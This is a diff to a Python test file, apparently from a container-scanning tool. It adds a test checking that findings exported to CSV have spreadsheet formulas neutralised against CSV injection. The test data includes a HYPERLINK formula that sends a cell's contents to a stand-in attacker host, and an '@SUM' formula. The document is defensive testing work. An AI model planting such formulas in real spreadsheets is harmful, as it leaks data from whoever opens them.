@@ -56,3 +56,19 @@ def test_a_carriage_return_in_a_name_cannot_forge_a_csv_row() -> None:
     finding = {c: "" for c in FINDING_COLUMNS} | {"pci": [], "path": "/a\rIA-FAKE"}
     [row] = rows(findings_csv([finding]))
     assert row["path"] == "/a\rIA-FAKE"
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_made_inert() -> None:
+    """A hostile image's build step or evidence must not run in the assessor's spreadsheet
+    (OWASP CSV injection): such a cell starts with a quote; other cells stay exact."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    finding = {c: "" for c in FINDING_COLUMNS} | {
+        "pci": [],
+        "evidence": formula,
+        "title": "@SUM(1+1)",
+        "path": "/app/=ok",
+        "layer_index": 2,
+    }
+    [row] = rows(findings_csv([finding]))
+    assert row["evidence"] == "'" + formula and row["title"] == "'@SUM(1+1)"
+    assert row["path"] == "/app/=ok" and row["layer_index"] == "2"
